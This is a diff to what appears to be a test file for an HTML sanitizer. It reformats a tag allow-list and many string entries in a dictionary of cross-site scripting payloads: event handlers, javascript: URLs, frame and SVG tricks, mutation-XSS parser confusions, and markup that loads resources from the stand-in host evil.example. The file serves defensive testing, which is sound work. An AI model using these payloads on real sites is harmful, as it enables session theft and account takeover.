@@ -9,9 +9,8 @@ import re
 from html.parser import HTMLParser
 from typing import Any
 
-TAGS = frozenset(
-    ["p", "br", "ul", "ol", "li", "h2", "h3", "h4", "h5", "blockquote", "strong", "b", "em", "i", "u", "a"]
-)
+TAGS = frozenset(["p", "br", "ul", "ol", "li", "h2", "h3", "h4", "h5", "blockquote", "strong", "b"])
+TAGS |= {"em", "i", "u", "a"}
 SCHEMES = ("http:", "https:", "mailto:", "tel:")
 
 _DEEP = 600  # browsers flatten what is nested deeper than 512
@@ -50,10 +49,8 @@ PAYLOADS: dict[str, str] = {
     "p-quoteless": "<p x='\"'onclick=pwned()>x</p>",
     "a-onclick-after-href": "<a href='https://x.example'onclick=pwned()>x</a>",
     "a-attribute-breakout": "<a href='https://x.example/\"onfocus=pwned() autofocus x=\"'>x</a>",
-    "a-attribute-breakout-entities": (
-        '<a href="https://x.example/&quot; '
-        'autofocus onfocus=&quot;pwned()">x</a>'
-    ),
+    "a-attribute-breakout-entities": '<a href="https://x.example/&quot; '
+        'autofocus onfocus=&quot;pwned()">x</a>',
     "autofocus-input": "<input autofocus onfocus=pwned()>",
     "autofocus-select": "<select autofocus onfocus=pwned()><option>x</select>",
     "autofocus-textarea": "<textarea autofocus onfocus=pwned()></textarea>",
@@ -112,10 +109,8 @@ PAYLOADS: dict[str, str] = {
     "href-fragment": "<a href='#constructor'>x</a>",
     "href-credentials": "<a href='https://site.example@evil.example/'>x</a>",
     "href-direction": "<a href='https://evil.example/\u202egpj.exe'>\u202ex</a>",
-    "a-target-ping": (
-        "<a href=https://x.example target=opener "
-        "ping=//evil.example/ping download rel=opener>x</a>"
-    ),
+    "a-target-ping": "<a href=https://x.example target=opener "
+        "ping=//evil.example/ping download rel=opener>x</a>",
     "a-xlink": "<a xlink:href=javascript:pwned() xml:base=javascript:pwned()//>x</a>",
     "a-attributionsrc": "<a href=https://x.example attributionsrc=//evil.example/a>x</a>",
     "area": "<map name=m><area href=javascript:pwned() shape=default></map><img usemap=#m src=x>",
@@ -127,16 +122,12 @@ PAYLOADS: dict[str, str] = {
     # --- frames, objects, the page itself ---
     "iframe": "<iframe src=javascript:pwned()></iframe>",
     "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-    "iframe-srcdoc-entities": (
-        "<iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;' "
-        "onload=pwned()></iframe>"
-    ),
+    "iframe-srcdoc-entities": "<iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;' "
+        "onload=pwned()></iframe>",
     "iframe-data": "<iframe src='data:text/html,<script>parent.pwned()</script>'></iframe>",
     "fencedframe": "<fencedframe src=//evil.example></fencedframe><portal src=//evil.example></portal>",
-    "object": (
-        "<object data=javascript:pwned() onerror=pwned()>"
-        "<param name=src value=javascript:pwned()></object>"
-    ),
+    "object": "<object data=javascript:pwned() onerror=pwned()>"
+        "<param name=src value=javascript:pwned()></object>",
     "embed": "<embed src=//evil.example/x.swf allowscriptaccess=always onload=pwned()>",
     "applet": "<applet code=x archive=//evil.example/x.jar></applet>",
     "base": "<base href=//evil.example/><a href=x>x</a>",
@@ -144,19 +135,15 @@ PAYLOADS: dict[str, str] = {
     "meta-charset": "<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-",
     "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
     "link-stylesheet": "<link rel=stylesheet href=//evil.example/x.css onload=pwned() onerror=pwned()>",
-    "link-prefetch": (
-        "<link rel=dns-prefetch href=//evil.example><link "
-        "rel=preload as=script href=//evil.example/x>"
-    ),
+    "link-prefetch": "<link rel=dns-prefetch href=//evil.example><link "
+        "rel=preload as=script href=//evil.example/x>",
     "link-import": "<link rel=import href=//evil.example/x.html>",
     "bgsound": "<bgsound src=javascript:pwned()><layer src=//evil.example/x.js></layer>",
     # --- styles ---
     "style-url": "<p style=\"background:url('//evil.example/b.png')\">x</p>",
     "style-url-javascript": "<p style='background:url(javascript:pwned())'>x</p>",
-    "style-expression": (
-        "<p style='width:expression(pwned());behavior:url(x.htc);-moz-binding:url(x.xml)'>x"
-        "</p>"
-    ),
+    "style-expression": "<p style='width:expression(pwned());behavior:url(x.htc);-moz-binding:url(x.xml)'>x"
+        "</p>",
     "style-escapes": "<p style='b\\61ckground:\\75rl(//evil.example/b.png)'>x</p>",
     "style-import": "<style>@import '//evil.example/x.css';</style>x",
     "style-import-link": "<style>@im\\port'\\ja\\vasc\\ript:pwned()';</style>x",
@@ -176,10 +163,8 @@ PAYLOADS: dict[str, str] = {
     "svg-animate-onbegin": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
     "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'/></svg>",
     "svg-image": "<svg><image href=//evil.example/1.png onerror=pwned() /></svg>",
-    "svg-foreign-object": (
-        "<svg><foreignObject><iframe src=javascript:pwned()>"
-        "</iframe></foreignObject></svg>"
-    ),
+    "svg-foreign-object": "<svg><foreignObject><iframe src=javascript:pwned()>"
+        "</iframe></foreignObject></svg>",
     "svg-style": "<svg><style>*{background:url(//evil.example/b.png)}</style></svg>",
     "svg-handler": "<svg xmlns:ev=x><handler ev:event=load>pwned()</handler></svg>",
     "math-href": "<math href=javascript:pwned()><mtext>x</mtext></math>",
@@ -189,35 +174,25 @@ PAYLOADS: dict[str, str] = {
     "mxss-style": '<style><p title="</style><img src=x onerror=pwned()>">',
     "mxss-svg-style": '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
     "mxss-math-style": '<math></p><style><!--</style><img src/onerror=pwned()>',
-    "mxss-mglyph": (
-        "<math><mtext><table><mglyph><style><!--</style><img "
-        "title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>"
-    ),
-    "mxss-mglyph-form": (
-        "<form><math><mtext></form><form><mglyph>"
-        "<style></math><img src onerror=pwned()></style></mglyph></form>"
-    ),
+    "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img "
+        "title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
+    "mxss-mglyph-form": "<form><math><mtext></form><form><mglyph>"
+        "<style></math><img src onerror=pwned()></style></mglyph></form>",
     "mxss-malignmark": "<math><mtext><table><malignmark><style><![CDATA[</style><img src onerror=pwned()>]]>",
-    "mxss-annotation": (
-        "<math><annotation-xml encoding='text/html'>"
-        "<style><img src onerror=pwned()></style></annotation-xml></math>"
-    ),
+    "mxss-annotation": "<math><annotation-xml encoding='text/html'>"
+        "<style><img src onerror=pwned()></style></annotation-xml></math>",
     "mxss-desc-title": "<svg><desc><title><style></title><img src onerror=pwned()></style></desc></svg>",
     "mxss-template": "<template><p title='</template><img src=x onerror=pwned()>'></template>",
     "mxss-shadow-root": "<p><template shadowrootmode=open><img src=x onerror=pwned()></template></p>",
-    "mxss-form-nesting": (
-        "<form><div></form><form><svg><style></form>"
-        "<img src=x onerror=pwned()></style></svg></form>"
-    ),
+    "mxss-form-nesting": "<form><div></form><form><svg><style></form>"
+        "<img src=x onerror=pwned()></style></svg></form>",
     "mxss-table": "<table><td><a href='</td></table><img src=x onerror=pwned()>'>x</table>",
     "mxss-foster-parent": "<table><a href=javascript:pwned()>x</a><script>pwned()</script><tr><td>y</table>",
     "mxss-foster-select": "<select><template><table><img src=x onerror=pwned()></table></template></select>",
     "mxss-select": "<select><style></select><img src=x onerror=pwned()></style></select>",
     "mxss-select-option": "<select><option><script>pwned()</script><iframe src=javascript:pwned()></select>",
-    "mxss-caption": (
-        "<table><caption><svg><title><table><caption>"
-        "</caption></table><img src onerror=pwned()></title>"
-    ),
+    "mxss-caption": "<table><caption><svg><title><table><caption>"
+        "</caption></table><img src onerror=pwned()></title>",
     "mxss-p-in-a": "<a href=https://x.example><table><a href=javascript:pwned()>x</a></table></a>",
     "mxss-adoption": "<a href=javascript:pwned()><p><a><b><p></a><img src=x onerror=pwned()></b>",
     "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=pwned()>'></textarea>",
@@ -252,19 +227,15 @@ PAYLOADS: dict[str, str] = {
     "broken-equals": "<p =onclick=pwned() =><img = src=x =  onerror=pwned()>",
     "broken-angle": "<a href=https://x.example/<img/src=x/onerror=pwned()>x</a>",
     "wrapper-in-attribute": "<a href='https://x.example/</div >\" onclick=pwned()'>x</a>",
-    "double-encoded": (
-        "&lt;img src=x onerror=pwned()&gt; "
-        "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;"
-    ),
+    "double-encoded": "&lt;img src=x onerror=pwned()&gt; "
+        "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
     "entities-without-end": "&ltscript&gtpwned()&lt/script&gt",
     "charset-multibyte": "<img title=\"\u0100\ufffd\"onerror=pwned() src=x>",
     # --- clobbering, templates of frameworks ---
     "clobber-id": "<a id=x><a id=x name=y href=javascript:pwned()>x</a><form id=document name=cookie></form>",
     "clobber-name": "<img name=getElementById><a name=innerHTML href=https://x.example>x</a><form id=body>",
-    "framework-attributes": (
-        "<p x-data x-init=pwned() v-html=pwned() ng-app "
-        "ng-init=pwned() hx-on:load=pwned()>x</p>"
-    ),
+    "framework-attributes": "<p x-data x-init=pwned() v-html=pwned() ng-app "
+        "ng-init=pwned() hx-on:load=pwned()>x</p>",
     "htmx": "<p hx-get=//evil.example/x hx-trigger=load data-hx-get=//evil.example>x</p>",
 }  # fmt: skip
 
